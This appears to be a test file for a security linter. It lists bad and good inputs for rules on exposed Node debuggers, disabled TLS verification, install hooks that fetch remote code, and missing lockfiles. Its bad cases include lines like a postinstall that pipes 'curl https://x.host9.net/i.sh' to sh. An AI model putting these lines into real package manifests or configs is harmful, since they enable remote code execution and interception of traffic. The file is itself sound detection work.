import { ruleCases } from '../world.ts';

const manifest = 'package.json';
const scripts = (entries: Record<string, string>) => JSON.stringify({ scripts: entries });

ruleCases('HA502', {
  file: 'start.sh',
  bad: [
    'node --inspect=0.0.0.0:9229 server.js',
    'export NODE_TLS_REJECT_UNAUTHORIZED=0',
    { 'fly.toml': '[env]\nNODE_TLS_REJECT_UNAUTHORIZED = "0"' },
    { 'package.json': scripts({ start: 'node --inspect-brk=[::] .' }) },
    { Dockerfile: 'FROM a\nENV GIT_SSL_NO_VERIFY=true' },
    { '.env': 'DB_SSL={"rejectUnauthorized":false}' },
  ],
  good: [
    'node --inspect=127.0.0.1:9229 .',
    'export NODE_TLS_REJECT_UNAUTHORIZED=1',
    '# NODE_TLS_REJECT_UNAUTHORIZED=0',
    { 'package.json': scripts({ start: 'node .' }) },
    'node --inspect server.js',
  ],
});

ruleCases('HA503', {
  file: manifest,
  bad: [
    scripts({ postinstall: 'curl https://x.host9.net/i.sh | sh' }),
    scripts({ preinstall: 'wget -q https://x.host9.net/bin' }),
    scripts({ install: 'npx tool@latest' }),
    scripts({ postinstall: 'git clone https://host9.net/r' }),
    scripts({ postinstall: 'node -e "fetch(\'https://host9.net\')"' }),
  ],
  good: [
    scripts({ postinstall: 'prisma generate' }),
    scripts({ build: 'curl https://host9.net' }),
    scripts({}),
    '{}',
    'not json at all {',
    scripts({ postinstall: 'node scripts/build.js' }),
  ],
});

const needs = '{"dependencies":{"hono":"4"}}';
ruleCases('HA504', {
  file: manifest,
  bad: [
    needs,
    { 'package.json': needs, '.gitignore': 'package-lock.json\n', 'package-lock.json': '{}' },
    { 'api/package.json': needs, 'web/package-lock.json': '{}' },
    '{"devDependencies":{"vitest":"4"}}',
    { 'package.json': needs, 'yarn.lock': '', '.gitignore': '*.lock' },
  ],
  good: [
    { 'package.json': needs, 'package-lock.json': '{}' },
    { 'api/package.json': needs, 'pnpm-lock.yaml': '' },
    '{}',
    '{"dependencies":{}}',
    { 'package.json': needs, 'bun.lock': '', '.gitignore': 'node_modules\n' },
  ],
});
